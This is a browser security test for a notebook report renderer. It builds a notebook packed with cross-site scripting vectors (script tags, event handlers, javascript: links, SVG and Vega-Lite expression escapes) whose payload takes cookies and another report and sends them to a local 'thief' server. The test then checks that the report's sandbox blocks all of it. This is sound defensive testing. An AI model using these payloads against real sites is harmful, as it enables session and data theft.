import assert from "node:assert/strict";
import type { Frame, Locator, Page } from "playwright-core";
import { publishReport, renderPage } from "shopflow/notebook/report/mod.ts";
import { createLogger, createRuntime } from "shopflow/runtime/mod.ts";
import { createApp } from "../../server/app.ts";
import { listen } from "../../server/listen.ts";
import { executedNotebook, proseCell, shownCell } from "../fixtures/executed_notebook.ts";
import { testWith } from "../requirements.ts";
import { publishWholeLake, temporaryLake } from "../server/small_lake.ts";
import { publishSmallReport } from "../server/small_report.ts";
import { inTime } from "./in_time.ts";
import { launchChromium } from "./launch_chromium.ts";

/** Milliseconds for a frame to answer, on a busy machine. */
const FRAME_MS = 60_000;

/** What an attack does when it runs: it marks the page, takes the other report, and tells a server of its own. */
const payload = (thief: string) =>
  `top.document.title="owned";document.title="owned";window.owned=1;localStorage.owned=document.cookie;` +
  `fetch("/reports/victim").then(r=>r.text()).then(t=>fetch("${thief}?"+t));new Image().src="${thief}"`;

const chart = (changes: Record<string, unknown>) => ({
  "application/vnd.vegalite.v5+json": {
    data: { values: [{ kind: "books", sold: 3 }, { kind: "toys", sold: 5 }] },
    mark: "bar",
    encoding: { x: { field: "kind", type: "nominal" }, y: { field: "sold", type: "quantitative" } },
    ...changes,
  },
});

/** A notebook full of ways to bring a script into its page, some of which browsers or libraries once fell for. */
function hostileNotebook(thief: string) {
  const code = payload(thief);
  const quoted = code.replaceAll('"', "&quot;");
  const html = [
    `<script>${code}</script>`,
    `<img src=x onerror="${quoted}">`,
    `<img src="${thief}/pixel.png">`,
    `<a class="bait" href="javascript:${quoted}">click me</a>`,
    `<a class="bait" href="jAvA&Tab;script&colon;${quoted}">click me</a>`,
    `<a class="bait" href="data:text/html,<script>${quoted}</script>">click me</a>`,
    `<iframe src="/reports/victim" onload="${quoted}"></iframe>`,
    `<iframe srcdoc="<script>${quoted}</script>"></iframe>`,
    `<object data="data:text/html,<script>${quoted}</script>"></object><embed src="${thief}/e.swf">`,
    `<style>@import "${thief}/s.css"; body { background: url("${thief}/b.png") }</style>styled`,
    `<link rel="stylesheet" href="${thief}/l.css"><link rel="prefetch" href="${thief}/p">`,
    `<form action="${thief}"><input name="key" autofocus onfocus="${quoted}"><button>send</button></form>`,
    `<meta http-equiv="refresh" content="0;url=${thief}"><base href="${thief}">`,
    `<svg onload="${quoted}"><script>${code}</script><animate onbegin="${quoted}" attributeName="x" dur="1s"/></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${quoted}&gt;">`,
    `<details open ontoggle="${quoted}"><summary>x</summary></details><video><source onerror="${quoted}"></video>`,
    `</iframe></main></body><script>${code}</script>`,
  ];
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${quoted}"><script>${code}</script>` +
    `<a href="javascript:${quoted}"><text>x</text></a><image href="${thief}/i.png"/>` +
    `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${quoted}"/></foreignObject></svg>`;
  const text = `</script><script>${code}</script>`;
  return executedNotebook([
    proseCell(`# Hostile ${html[0]}\n\n${html.join("\n\n")}\n\n## module\n\n## exports\n\n## vega\n`),
    proseCell(
      `[click](javascript:${code.replaceAll(/[()" ]/g, "")}) ![x](${thief}/md.png) <${thief}>\n`,
      "md",
    ),
    shownCell("html", ...html.map((each) => ({ "text/html": each }))),
    shownCell("svg", { "image/svg+xml": svg }),
    shownCell("md2", { "text/markdown": html.join("\n\n") }),
    shownCell(
      "charts",
      chart({
        title: text,
        data: { values: [{ kind: text, sold: 1 }, { kind: `<img src=x onerror="${code}">`, sold: 2 }] },
      }),
      chart({ params: [{ name: "a", expr: `(1).constructor.constructor('${code}')()` }] }),
      chart({
        params: [{
          name: "b",
          value: 0,
          on: [{ events: "pointermove", update: `event.view.eval('${code}')` }],
        }],
      }),
      chart({
        params: [{ name: "c", expr: `replace('a', 'a', toString)` }, { name: "d", expr: "data('source_0')" }],
      }),
      chart({ encoding: { href: { value: `javascript:${code}` }, x: { field: "sold" } } }),
      chart({ mark: { type: "image", url: `${thief}/chart.png` } }),
      chart({ data: { url: `${thief}/rows.json` } }),
      chart({
        usermeta: { embedOptions: { loader: { baseURL: thief } } },
        config: { font: `x;}</style><script>${code}` },
      }),
    ),
  ], { notebook: "hostile", parameters: { note: text }, failure: undefined });
}

testWith(
  ["chromium"],
  "what a notebook puts into its report reaches no script, page, storage or server",
  async (t) => {
    await using lake = await temporaryLake();
    await publishWholeLake(lake.store);
    await publishSmallReport(lake.store, { name: "victim" });
    const stolen: string[] = [];
    const thief = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
      stolen.push(request.url);
      return new Response("", { headers: { "access-control-allow-origin": "*" } });
    });
    const thiefUrl = `http://127.0.0.1:${thief.addr.port}`;
    const notebook = hostileNotebook(thiefUrl);
    const page = await renderPage(notebook);
    await publishReport(lake.store, { record: notebook.metadata.shopflow, page, inputs: "" });
    const folder = await Deno.makeTempDir({ prefix: "shopflow_report_" });
    await Deno.writeTextFile(`${folder}/hostile.html`, page.html);
    const runtime = createRuntime({ log: createLogger(() => {}) });
    const server = await listen(createApp({ store: lake.store, runtime }).fetch, {
      host: "127.0.0.1",
      port: 0,
    });
    const browser = await launchChromium();
    try {
      for (
        const [place, url] of [["served", `${server.url}/reports/hostile`], [
          "as a file",
          `file://${folder}/hostile.html`,
        ]] as const
      ) {
        await t.step(`${place}, nothing of the notebook runs or loads`, async () => {
          const tab = await browser.newPage();
          // What the policy stops is seen as a request that failed; what was answered came from somewhere.
          const answered: string[] = [];
          tab.on("response", (response) => answered.push(response.url()));
          await tab.goto(url);
          await useEverything(tab);
          await useFrames(tab);
          assert.notEqual(await tab.title(), "owned");
          assert.equal(await tab.evaluate("window.owned"), undefined);
          assert.equal(tab.url().split("#")[0], url, "the page was led elsewhere");
          const ours = (address: string) => address.startsWith(`${server.url}/assets/charts-`);
          assert.deepEqual(answered.filter((address) => address !== url && !ours(address)), []);
          // Its harmless charts are alive nevertheless: the page's own script ran, names like `module` notwithstanding.
          assert.ok(await tab.locator("[data-interactive]").count() >= 1);
          await tab.close();
        });
      }
      await t.step("served, even a script that did run would reach nothing", async () => {
        const tab = await browser.newPage();
        await tab.goto(`${server.url}/reports/hostile`);
        assert.deepEqual(await tab.evaluate(REACH(thiefUrl, server.url)), {
          origin: "null",
          cookie: "SecurityError",
          localStorage: "SecurityError",
          sessionStorage: "SecurityError",
          indexedDB: "SecurityError",
          otherReport: "TypeError",
          api: "TypeError",
          thief: "TypeError",
          socket: "refused",
          beacon: "sent nothing",
          image: "refused",
          evaluation: "EvalError",
          timer: "refused",
          inlineScript: "did not run",
          frame: "refused",
          worker: "refused",
          window: "null",
        });
        await tab.close();
      });
      assert.deepEqual(stolen, []);
    } finally {
      await browser.close();
      await server.stop();
      await thief.shutdown();
      await Deno.remove(folder, { recursive: true });
    }
  },
);

/** Scrolls to all charts, points at them, and clicks whatever the hostile notebook offers. */
async function useEverything(tab: Page): Promise<void> {
  const height = await tab.evaluate<number>("document.documentElement.scrollHeight");
  for (let y = 0; y < height; y += 400) {
    await tab.evaluate(`scrollTo(0, ${y})`);
    await tab.waitForTimeout(30);
  }
  for (const chart of await tab.locator(".drawing svg:visible").all()) await chart.hover({ force: true });
  for (const link of await tab.locator("main a:visible, main svg a").all()) {
    const href = await link.getAttribute("href");
    // Links to other sites are the reader's choice; scripts and data are not.
    if (href === null || /^(https?:|mailto:|#)/.test(href) || href.startsWith("data:application/x-ipynb")) {
      continue;
    }
    await link.click({ force: true });
  }
}

/**
 * Clicks whatever the hostile notebook offers in its frames. A frame in a frame that wants another page is refused: what
 * is there then is an error of Chromium's, or nothing, and has no world in which Playwright could look for links.
 */
async function useFrames(tab: Page): Promise<void> {
  for (const frame of tab.frames().slice(1)) {
    if (frame.parentFrame() !== tab.mainFrame() && frame.url() !== "about:srcdoc") {
      assert.match(frame.url(), /^(chrome-error:.*)?$/);
      continue;
    }
    const items = await inTime(FRAME_MS, itemsIn(frame));
    assert.ok(items !== undefined, `a frame of the report did not answer: ${frame.url()}`);
    for (const item of items.value) {
      await item.click({ force: true, timeout: 300, noWaitAfter: true }).catch(() => {});
    }
  }
  await tab.waitForTimeout(200);
}

/** It stays in view meanwhile: one that was scrolled past may not have begun to load. */
async function itemsIn(frame: Frame): Promise<Locator[]> {
  await (await frame.frameElement()).scrollIntoViewIfNeeded();
  return await frame.locator("a, button").all();
}

/** Evaluated in the report's own world, as an attacker's script would be: what it can reach. */
const REACH = (thief: string, site: string) =>
  `(async () => {
  const named = async (attempt) => { try { return await attempt(); } catch (error) { return error.name; } };
  const event = (target, good, bad) => new Promise((done) => {
    target.addEventListener(good, () => done("reached")); target.addEventListener(bad, () => done("refused"));
    setTimeout(() => done("refused"), 1500);
  });
  window.ran = undefined;
  const script = document.createElement("script");
  script.textContent = "window.ran = 1";
  document.body.append(script);
  const frame = document.createElement("iframe");
  frame.src = ${JSON.stringify(site)} + "/reports/victim";
  document.body.append(frame);
  const image = new Image(); image.src = ${JSON.stringify(thief)} + "/pixel.png";
  return {
    origin: self.origin,
    cookie: await named(() => document.cookie),
    localStorage: await named(() => localStorage.length),
    sessionStorage: await named(() => sessionStorage.length),
    indexedDB: await named(() => indexedDB.open("x")),
    otherReport: await named(async () => (await fetch(${JSON.stringify(site)} + "/reports/victim")).status),
    api: await named(async () => (await fetch(${JSON.stringify(site)} + "/health")).status),
    thief: await named(async () => (await fetch(${JSON.stringify(thief)}, { mode: "no-cors" })).type),
    socket: await named(() => event(new WebSocket(${
    JSON.stringify(thief.replace("http", "ws"))
  }), "open", "error")),
    beacon: await named(() => { navigator.sendBeacon(${
    JSON.stringify(thief)
  }, "x"); return "sent nothing"; }),
    image: await event(image, "load", "error"),
    evaluation: await named(() => new Function("return 1")()),
    timer: await named(() => { setTimeout("window.ran = 2"); return new Promise((done) => setTimeout(() => done(window.ran ? "ran" : "refused"), 100)); }),
    inlineScript: window.ran === undefined ? "did not run" : "ran",
    frame: await named(() => frame.contentDocument === null ? "refused" : "reached"),
    worker: await named(() => event(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), "message", "error")),
    window: String(window.open(${JSON.stringify(site)} + "/reports/victim")),
  };
})()`;
